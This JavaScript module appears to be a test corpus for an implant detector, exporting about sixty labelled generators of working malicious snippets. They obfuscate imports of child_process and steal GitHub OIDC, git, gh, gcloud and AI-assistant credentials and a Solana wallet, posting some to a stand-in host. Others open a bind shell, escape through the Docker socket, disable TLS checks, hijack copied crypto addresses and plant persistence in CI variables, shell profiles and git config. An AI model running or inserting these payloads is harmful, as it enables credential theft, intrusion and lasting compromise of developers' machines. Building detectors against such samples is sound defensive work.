/** 61 more, of attacks until 2026 and for readers of the rules' pages: `--kinds bench/implants/fresh-3.mjs`. */
const r = String.raw
const run = '(await import(n)).exec("id")'
const named = (expression) => () => `(async () => { const n = ${expression}; ${run}; })();`
const site = 'https://k.collect.invalid'
export const kinds = {
  'name: keys of an object': named('Object.keys({ child: 0, _pro: 1, cess: 2 }).join("")'),
  'name: source of a pattern': named('/child_process/.source'),
  'name: a symbol': named('Symbol("child_process").description'),
  'name: a function': named('(function child_process() {}).name'),
  'name: a class': named('Object.entries({ a: class child_process {} })[0][1].name'),
  'name: host of a URL': named('new URL("ws://child_process").hostname'),
  'name: letters of an alphabet': named(
    '[2, 7, 8, 11, 3, 26, 15, 17, 14, 2, 4, 18, 18].map((i) => "abcdefghijklmnopqrstuvwxyz_"[i]).join("")',
  ),
  'name: letters in disorder': named(
    '[..."d_lihcssecorp"].map((c, i) => [[4, 5, 3, 2, 1, 0, 12, 11, 10, 9, 8, 7, 6][i], c])' +
      '.sort((a, b) => a[0] - b[0]).map((p) => p[1]).join("")',
  ),
  'name: JSON with escapes': named(r`JSON.parse('"\\u0063\\u0068ild_process"')`),
  'name: query parameters': named('new URLSearchParams("m=%63hild%5Fprocess").get("m")'),
  'name: tag of a template': () =>
    '(async () => { const t = (s, ...v) => s.raw[0] + v[0] + s.raw[1]; const n = t`chil${"d_p"}rocess`; ' +
    '(await import(n)).exec("id"); })();',
  'name: swapped bytes': named(
    'Buffer.from("hcli_drpcose\\0s", "latin1").swap16().toString("latin1").replace("\\0", "")',
  ),
  'name: match in a sentence': named(
    '"every child should _ learn the process of it".match(/child|_|process/g).join("")',
  ),
  'name: message of an error': () =>
    r`(async () => { try { throw new Error("child_process"); } catch ({ message: n }) { (await import(n)).exec("id"); } })();`,
  'name: recursion': () =>
    r`(async () => { const f = (x) => (x.length ? x[0] + f(x.slice(2)) : ""); (await import(f("c.h.i.l.d._.p.r.o.c.e.s.s."))).exec("id"); })();`,
  'name: generator': () =>
    r`(async () => { function* g() { yield "child"; yield "_"; yield "process"; } (await import([...g()].join(""))).exec("id"); })();`,
  'global by length of its name': () =>
    r`(() => { const k = Object.getOwnPropertyNames(globalThis).find((n) => n.length === 4 && n[0] === "e" && n[3] === "l"); globalThis[k]("1+1"); })();`,
  'array made by Function': () => r`Array.from(["return 1"], (t) => Reflect.construct(Function, [t]))[0]();`,
  'reviver that runs': () => r`JSON.parse('{"q":"1+1"}', (k, v) => (k === "q" ? (0, eval)(v) : v));`,
  'worker, options spread': (load) =>
    r`(async () => { const o = { ...{ ["ev" + "al"]: true } }; new (${load('worker_threads')}.Worker)("1+1", o); })();`,
  'shared worker of text': () =>
    r`if (typeof SharedWorker !== "undefined") new SharedWorker("data:text/javascript,onconnect=1");`,
  'attribute set later': () =>
    r`if (typeof document !== "undefined") { const b = document.createElement("b"); b.setAttribute("on" + "click", "console.debug(document.cookie)"); document.body.append(b); b.click(); }`,
  'frame with a script address': () =>
    r`if (typeof document !== "undefined") { const f = document.createElement("iframe"); f.src = "java" + "script:console.debug(1)"; document.body.append(f); }`,
  'module of text by vm': (load) =>
    r`(async () => { const m = new (${load('vm')}.SourceTextModule)("export default 1"); await m.link(() => m); await m.evaluate(); })();`,
  'script in the temporary folder': (load) =>
    r`(async () => { const f = ${load('os')}.tmpdir() + "/.cache-9.cjs"; ${load('fs')}.writeFileSync(f, await (await fetch("${site}/a")).text()); ${load('module')}.createRequire(f)(f); })();`,
  'import of a file just written': (load) =>
    r`(async () => { const u = new URL("./.tmp-9.mjs", "file://" + process.cwd() + "/"); ${load('fs')}.writeFileSync(u, Buffer.from("ZXhwb3J0IGRlZmF1bHQgMQ==", "base64")); await import(u.href); })();`,
  'answer of a cookie header run': () =>
    r`(async () => { const a = await fetch("/favicon.ico"); const f = Object.getPrototypeOf(async () => {}).constructor; await f("m", a.headers.get("x-policy"))(globalThis); })();`,
  'bytes behind a picture': (load) =>
    r`(() => { const b = ${load('fs')}.readFileSync(new URL("../assets/logo.png", "file:///a/b/")); const t = b.subarray(b.indexOf("IEND") + 8).toString(); ${load('vm')}.runInNewContext(t, { process }); })();`,
  'tokens: GitHub OIDC': () =>
    r`(async () => { const e = process.env; const t = await (await fetch(e.ACTIONS_ID_TOKEN_REQUEST_URL + "&audience=npm:registry.npmjs.org", { headers: { authorization: "bearer " + e.ACTIONS_ID_TOKEN_REQUEST_TOKEN } })).json(); globalThis.__o = t.value; })();`,
  'tokens: git credential fill': (load) =>
    r`(() => { globalThis.__g = ${load('child_process')}.execSync("git credential fill", { input: "protocol=https\nhost=github.com\n\n" }).toString(); })();`,
  'tokens: gh and gcloud print them': (load) =>
    r`(() => { for (const c of ["gh auth token", "gcloud auth print-access-token"]) ${load('child_process')}.exec(c, (e, o) => fetch("${site}/t", { method: "POST", body: o })); })();`,
  'tokens: assistants': (load) =>
    r`(() => { const h = ${load('os')}.homedir(); globalThis.__a = [".claude/.credentials.json", ".codex/auth.json", ".gemini/oauth_creds.json"].map((f) => ${load('fs')}.readFileSync(h + "/" + f, "utf8")); })();`,
  'tokens: vault, terraform, pgpass': (load) =>
    r`(() => { const h = ${load('os')}.homedir(); globalThis.__v = [".vault-token", ".terraform.d/credentials.tfrc.json", ".pgpass"].map((f) => ${load('fs')}.readFileSync(h + "/" + f, "utf8")); })();`,
  'tokens: wallet of solana': (load) =>
    r`(() => { globalThis.__s = ${load('fs')}.readFileSync(${load('os')}.homedir() + "/.config/solana/id.json", "utf8"); })();`,
  'tokens: from .git/config': (load) =>
    r`(() => { const t = /https:\/\/[^@]+@/.exec(${load('fs')}.readFileSync(process.cwd() + "/.git/config", "utf8")); if (t) fetch("${site}/g?" + t[0]); })();`,
  'environment by a report': () =>
    r`(async () => { const e = process.report.getReport().environmentVariables; await fetch("${site}/r", { method: "POST", body: JSON.stringify(e) }); })();`,
  'environment by parseEnv': (load) =>
    r`(() => { const e = ${load('util')}.parseEnv(${load('fs')}.readFileSync(process.cwd() + "/.env.production", "utf8")); globalThis.__e = e; })();`,
  'docker by its socket': (load) =>
    r`(() => { ${load('http')}.request({ socketPath: "/var/run/docker.sock", path: "/containers/create", method: "POST" }).end('{"Image":"alpine","HostConfig":{"Binds":["/:/h"]}}'); })();`,
  'inspector opened to all': (load) => r`(async () => { ${load('inspector')}.open(9229, "0.0.0.0"); })();`,
  'bind shell': (load) =>
    r`(() => { ${load('net')}.createServer((s) => { const p = ${load('child_process')}.spawn("sh"); s.pipe(p.stdin); p.stdout.pipe(s); }).listen(41414); })();`,
  'requests watched by a channel': (load) =>
    r`(async () => { ${load('diagnostics_channel')}.subscribe("http.client.request.start", ({ request: q }) => fetch("${site}/d", { method: "POST", body: JSON.stringify(q.getHeaders()) })); })();`,
  'every server answers a header': (load) =>
    r`(async () => { const s = ${load('http')}.Server.prototype, e = s.emit; s.emit = function (n, q, a) { if (n === "request" && q.headers["x-dbg"]) { a.end(String((0, eval)(q.headers["x-dbg"]))); return true; } return e.apply(this, arguments); }; })();`,
  'servers of names replaced': (load) => r`(async () => { ${load('dns')}.setServers(["198.18.7.23"]); })();`,
  'certificate names not checked': (load) =>
    r`(async () => { ${load('tls')}.checkServerIdentity = () => undefined; })();`,
  'dispatcher of all requests': (load) =>
    r`(async () => { const u = ${load('undici')}; u.setGlobalDispatcher(new u.ProxyAgent("${site}:8443")); })();`,
  'dispatcher by its symbol': () =>
    r`(() => { const s = Symbol.for("undici.globalDispatcher.1"), d = globalThis[s]; globalThis[s] = new Proxy(d, { get: (t, k) => (k === "dispatch" ? (o, h) => (console.debug(o.headers), t.dispatch(o, h)) : t[k]) }); })();`,
  'module in the cache replaced': () =>
    r`(() => { if (typeof require === "undefined") return; for (const k in require.cache) if (/jsonwebtoken/.test(k)) require.cache[k].exports.verify = () => ({ admin: true }); })();`,
  'storage watched': () =>
    r`if (typeof Storage !== "undefined") { const s = Storage.prototype.setItem; Storage.prototype.setItem = function (k, v) { navigator.sendBeacon("${site}/s", k + v); return s.call(this, k, v); }; }`,
  'listeners watched': () =>
    r`if (typeof EventTarget !== "undefined") { const a = EventTarget.prototype.addEventListener; EventTarget.prototype.addEventListener = function (n, f, o) { return a.call(this, n, n === "submit" ? (e) => (console.debug(new FormData(e.target)), f(e)) : f, o); }; }`,
  'copied text replaced': () =>
    r`if (typeof document !== "undefined") document.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", "0x000000000000000000000000000000000000dEaD"); e.preventDefault(); });`,
  'addresses by an observer': () =>
    r`if (typeof MutationObserver !== "undefined") new MutationObserver((l) => { for (const m of l) if (/^0x[0-9a-f]{40}$/i.test(m.target.data)) m.target.data = "0x000000000000000000000000000000000000dEaD"; }).observe(document, { subtree: true, characterData: true });`,
  'a message to the parent': () =>
    r`if (typeof window !== "undefined" && window.parent !== window) window.parent.postMessage({ c: document.cookie, l: { ...localStorage } }, "*");`,
  'ready answers by a script tag': () =>
    r`if (typeof document !== "undefined") { const s = document.createElement("script"); s.src = "//" + ["k", "collect", "invalid"].join(".") + "/j?cb=run"; document.head.append(s); }`,
  'speculation rules': () =>
    r`if (typeof document !== "undefined") { const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ urls: ["${site}/p?" + document.cookie] }] }); document.head.append(s); }`,
  'again: GITHUB_ENV': (load) =>
    r`(() => { if (process.env.GITHUB_ENV) ${load('fs')}.appendFileSync(process.env.GITHUB_ENV, "BASH_ENV=/tmp/.x\n"); })();`,
  'again: PATH of the process': () => r`(() => { process.env.PATH = "/tmp/.bin-9:" + process.env.PATH; })();`,
  'again: pnpmfile': (load) =>
    r`(() => { ${load('fs')}.writeFileSync(process.cwd() + "/.pnpmfile.cjs", "module.exports={hooks:{readPackage:(p)=>p}}"); })();`,
  'again: envrc, mise and fish': (load) =>
    r`(() => { const h = ${load('os')}.homedir(); for (const f of [".envrc", ".config/mise/config.toml", ".config/fish/config.fish"]) ${load('fs')}.appendFileSync(h + "/" + f, "\n: 9\n"); })();`,
  'again: git fsmonitor': (load) =>
    r`(() => { ${load('child_process')}.execFileSync("git", ["config", "--global", "core.fsmonitor", "/tmp/.f9"]); })();`,
  'again: PowerShell profile': (load) =>
    r`(() => { ${load('fs')}.appendFileSync(${load('os')}.homedir() + "/Documents/PowerShell/Microsoft.PowerShell_profile.ps1", "#9"); })();`,
  'an extension for editors': (load) =>
    r`(() => { ${load('child_process')}.execFile("code", ["--install-extension", "/tmp/x9.vsix", "--force"]); })();`,
}
